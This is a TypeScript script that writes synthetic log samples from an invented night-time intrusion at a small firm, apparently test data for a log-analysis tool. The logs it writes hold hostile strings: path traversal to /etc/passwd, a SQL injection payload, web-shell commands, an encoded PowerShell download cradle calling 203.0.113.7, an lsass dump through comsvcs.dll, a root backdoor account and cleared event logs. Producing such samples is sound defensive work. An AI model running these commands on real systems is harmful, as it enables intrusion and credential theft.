import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname } from 'node:path';
import { windowsEvent, writeEvtx } from '@yuheng/evtx/testing';

// Writes samples/: one night at a small firm, told by a web server, its logins and a workstation. All of it was written by us;
// addresses are from the ranges for documentation, names are invented. Run it again after a change: node scripts/run.mjs scripts/make-samples.ts

const OUTSIDE = '203.0.113.7';
const WEB = '10.0.5.20';
const DAY = Date.UTC(2026, 2, 1);

/** A moment of that night. */
function at(hour: number, minute: number, second = 0): Date {
  return new Date(DAY + ((hour * 60 + minute) * 60 + second) * 1000);
}

const iso = (time: Date): string => time.toISOString();
const two = (value: number): string => String(value).padStart(2, '0');

function access(
  time: Date,
  address: string,
  request: string,
  status: number,
  bytes: number,
  agent = 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
): string {
  const stamp = `01/Mar/2026:${two(time.getUTCHours())}:${two(time.getUTCMinutes())}:${two(time.getUTCSeconds())} +0000`;
  return `${address} - - [${stamp}] "${request} HTTP/1.1" ${status} ${bytes} "-" "${agent}"`;
}

function accessLog(): string[] {
  const lines: string[] = [];
  for (let minute = 0; minute < 50; minute++)
    lines.push(access(at(1, minute, 7), `198.51.100.${10 + (minute % 7)}`, 'GET /products?page=2', 200, 4210));
  const probes = [
    '/.env',
    '/.git/config',
    '/wp-login.php',
    '/wp-config.php.bak',
    '/phpmyadmin/',
    '/admin/',
    '/backup.zip',
    '/.aws/credentials',
    '/server-status',
    '/cgi-bin/test.cgi',
  ];
  for (let index = 0; index < 40; index++) {
    lines.push(
      access(
        at(2, 5, index),
        OUTSIDE,
        `GET ${probes[index % probes.length]}`,
        404,
        153,
        'Mozilla/5.0 (compatible; Nmap Scripting Engine)',
      ),
    );
  }
  lines.push(access(at(2, 6, 10), OUTSIDE, 'GET /download?file=../../../../etc/passwd', 200, 1842));
  lines.push(
    access(at(2, 6, 40), OUTSIDE, "GET /products?id=1'%20UNION%20SELECT%20user,password%20FROM%20users--", 500, 312),
  );
  lines.push(access(at(2, 7, 20), OUTSIDE, 'POST /uploads/avatar.php', 200, 21));
  lines.push(access(at(2, 7, 31), OUTSIDE, 'GET /uploads/avatar.php?cmd=id', 200, 54));
  lines.push(access(at(2, 7, 44), OUTSIDE, 'GET /uploads/avatar.php?cmd=cat%20/etc/passwd', 200, 1842));
  for (let minute = 10; minute < 40; minute++)
    lines.push(access(at(3, minute, 7), `198.51.100.${10 + (minute % 7)}`, 'GET /products?page=3', 200, 4188));
  return lines;
}

function syslog(time: Date, text: string): string {
  return `Mar  1 ${two(time.getUTCHours())}:${two(time.getUTCMinutes())}:${two(time.getUTCSeconds())} web01 ${text}`;
}

function authLog(): string[] {
  const lines = [
    syslog(at(0, 17, 1), 'CRON[611]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)'),
    syslog(at(0, 17, 2), 'CRON[611]: pam_unix(cron:session): session closed for user root'),
    syslog(
      at(1, 2, 9),
      'sshd[702]: Accepted publickey for alice from 10.0.5.2 port 51514 ssh2: ED25519 SHA256:x3VtqkU9Vq',
    ),
  ];
  for (let index = 0; index < 24; index++) {
    lines.push(
      syslog(
        at(2, 12, index * 2),
        `sshd[${810 + index}]: Failed password for deploy from ${OUTSIDE} port ${50000 + index} ssh2`,
      ),
    );
  }
  lines.push(
    syslog(at(2, 14, 9), `sshd[841]: Accepted password for deploy from ${OUTSIDE} port 50122 ssh2`),
    syslog(at(2, 14, 9), 'sshd[841]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)'),
    syslog(
      at(2, 14, 40),
      'sudo:   deploy : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow',
    ),
    syslog(at(2, 15, 22), 'sudo:   deploy : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash'),
    syslog(
      at(2, 16, 5),
      'useradd[902]: new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1',
    ),
  );
  return lines;
}

const GUID = (tail: string): string => `{8b1c0a55-9d6e-65e1-${tail}-000000000700}`;

/** What all Sysmon events of that host say. */
const SYSMON = {
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  Provider_Name: 'Microsoft-Windows-Sysmon',
  Computer: 'ws01.corp.example',
  User: 'CORP\\svc-deploy',
  LogonId: '0x5f1a2',
};
const EXPLORER = {
  Image: 'C:\\Windows\\explorer.exe',
  ProcessGuid: GUID('0a01'),
  ProcessId: 3120,
  CommandLine: 'C:\\Windows\\explorer.exe',
  ParentImage: 'C:\\Windows\\System32\\userinit.exe',
  ParentProcessGuid: GUID('0a00'),
  ParentProcessId: 3001,
  User: 'CORP\\bob',
  LogonId: '0x3a111',
};
const ENCODED = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')",
  'utf16le',
).toString('base64');
const POWERSHELL = {
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  ProcessGuid: GUID('0b02'),
  ProcessId: 5512,
  CommandLine: `powershell.exe -nop -w hidden -enc ${ENCODED}`,
  ParentImage: 'C:\\Windows\\System32\\services.exe',
  ParentProcessGuid: GUID('0001'),
  ParentProcessId: 664,
  ParentCommandLine: 'C:\\Windows\\system32\\services.exe',
  User: 'NT AUTHORITY\\SYSTEM',
  LogonId: '0x3e7',
};
const DUMP = {
  Image: 'C:\\Windows\\System32\\rundll32.exe',
  ProcessGuid: GUID('0b03'),
  ProcessId: 5640,
  CommandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\w.dmp full',
  ParentImage: POWERSHELL.Image,
  ParentProcessGuid: POWERSHELL.ProcessGuid,
  ParentProcessId: 5512,
  ParentCommandLine: POWERSHELL.CommandLine,
  User: 'NT AUTHORITY\\SYSTEM',
  LogonId: '0x3e7',
};

/** Sysmon as a shipper writes it: flat JSON lines. */
function sysmon(): object[] {
  return [
    { ...SYSMON, ...EXPLORER, EventID: 1, EventRecordID: 9001, TimeCreated: iso(at(1, 30, 2)) },
    { ...SYSMON, ...POWERSHELL, EventID: 1, EventRecordID: 9014, TimeCreated: iso(at(2, 22, 31)) },
    {
      ...SYSMON,
      EventID: 3,
      EventRecordID: 9015,
      TimeCreated: iso(at(2, 22, 33)),
      Image: POWERSHELL.Image,
      ProcessGuid: POWERSHELL.ProcessGuid,
      ProcessId: 5512,
      User: 'NT AUTHORITY\\SYSTEM',
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: '10.0.5.41',
      SourcePort: 50311,
      DestinationIp: OUTSIDE,
      DestinationPort: 80,
    },
    { ...SYSMON, ...DUMP, EventID: 1, EventRecordID: 9020, TimeCreated: iso(at(2, 23, 4)) },
    {
      ...SYSMON,
      EventID: 10,
      EventRecordID: 9021,
      TimeCreated: iso(at(2, 23, 5)),
      SourceImage: DUMP.Image,
      SourceProcessGUID: DUMP.ProcessGuid,
      SourceProcessId: 5640,
      TargetImage: 'C:\\Windows\\System32\\lsass.exe',
      TargetProcessGUID: GUID('0002'),
      TargetProcessId: 712,
      GrantedAccess: '0x1fffff',
      CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+2a1b0',
    },
    {
      ...SYSMON,
      EventID: 11,
      EventRecordID: 9022,
      TimeCreated: iso(at(2, 23, 6)),
      Image: DUMP.Image,
      ProcessGuid: DUMP.ProcessGuid,
      ProcessId: 5640,
      TargetFilename: 'C:\\Windows\\Temp\\w.dmp',
    },
  ];
}

const SECURITY = {
  channel: 'Security',
  computer: 'ws01.corp.example',
  provider: 'Microsoft-Windows-Security-Auditing',
};

function securityLog(): Buffer {
  const logon = (recordId: number, time: Date, user: string, type: string, address: string, session: string) =>
    windowsEvent({
      ...SECURITY,
      recordId: BigInt(recordId),
      eventId: 4624,
      time: time.getTime(),
      data: {
        TargetUserSid: 'S-1-5-21-1004-1005-1006-1104',
        TargetUserName: user,
        TargetDomainName: 'CORP',
        TargetLogonId: session,
        LogonType: type,
        AuthenticationPackageName: 'NTLM',
        IpAddress: address,
        IpPort: '49822',
      },
    });
  return writeEvtx([
    logon(4101, at(1, 29, 40), 'bob', '2', '127.0.0.1', '0x3a111'),
    logon(4120, at(2, 21, 50), 'svc-deploy', '3', WEB, '0x5f1a2'),
    windowsEvent({
      ...SECURITY,
      recordId: 4121n,
      eventId: 4697,
      time: at(2, 22, 30).getTime(),
      data: {
        SubjectUserName: 'svc-deploy',
        SubjectDomainName: 'CORP',
        SubjectLogonId: '0x5f1a2',
        ServiceName: 'WinUpdSvc',
        ServiceFileName: '%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -enc SQBFAFgA',
        ServiceType: '0x10',
        ServiceStartType: '3',
        ServiceAccount: 'LocalSystem',
      },
    }),
    windowsEvent({
      ...SECURITY,
      recordId: 4130n,
      eventId: 1102,
      provider: 'Microsoft-Windows-Eventlog',
      time: at(2, 31, 12).getTime(),
      data: { SubjectUserName: 'svc-deploy', SubjectDomainName: 'CORP', SubjectLogonId: '0x5f1a2' },
    }),
  ]);
}

function systemXml(): string {
  return `<?xml version="1.0" encoding="utf-8"?>
<Events>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Service Control Manager"/><EventID>7045</EventID><Level>4</Level><TimeCreated SystemTime="${iso(at(2, 22, 30)).replace('Z', '1234Z')}"/><EventRecordID>3312</EventRecordID><Channel>System</Channel><Computer>ws01.corp.example</Computer></System><EventData><Data Name="ServiceName">WinUpdSvc</Data><Data Name="ImagePath">%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -enc SQBFAFgA</Data><Data Name="ServiceType">user mode service</Data><Data Name="StartType">demand start</Data><Data Name="AccountName">LocalSystem</Data></EventData></Event>
</Events>
`;
}

const files: { readonly [path: string]: string | Buffer } = {
  'samples/web01/access.log': `${accessLog().join('\n')}\n`,
  'samples/web01/auth.log': `${authLog().join('\n')}\n`,
  'samples/ws01/sysmon.json': sysmon()
    .map((event) => `${JSON.stringify(event)}\n`)
    .join(''),
  'samples/ws01/Security.evtx': securityLog(),
  'samples/ws01/System.xml': systemXml(),
};
for (const [path, content] of Object.entries(files)) {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, content);
}
